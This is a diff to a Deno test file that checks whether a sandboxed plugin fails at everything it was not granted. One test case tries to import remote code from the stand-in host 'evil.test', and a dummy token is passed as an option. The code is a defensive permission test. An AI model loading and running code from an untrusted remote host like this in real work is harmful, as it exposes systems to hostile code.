@@ -60,7 +60,7 @@ const ATTEMPTS: readonly [name: string, code: string, message: string][] = [
   [
     "imports remote code",
     `await import("https://evil.test/" + "code.ts");`,
-    "no code is fetched here",
+    "--cached-only",
   ],
   ["imports a package", `await import("npm:left-" + "pad@1.3.0");`, "--cached-only"],
   ["imports a file", `await import("file://" + here + "/other" + ".ts");`, "read access to "],
@@ -94,7 +94,8 @@ Deno.test("a plugin fails at all that it was not granted", async () => {
      catch (error) { context.log.warn("${name}: " + textOf(error)); }`
   );
   const { code, stderr, files } = await catchSpy({
-    onLoad: `const textOf = (error) => error ? error.message + "; " + textOf(error.cause) : "";`,
+    onLoad:
+      `const textOf = (error) => error ? error.message.replaceAll("\\n", " ") + "; " + textOf(error.cause) : "";`,
     onRead: attempts.join("\n").replaceAll("PORT", port),
     permissions: { write: ["allowed.txt"] },
     options: { token: "hunter2-hunter2" },
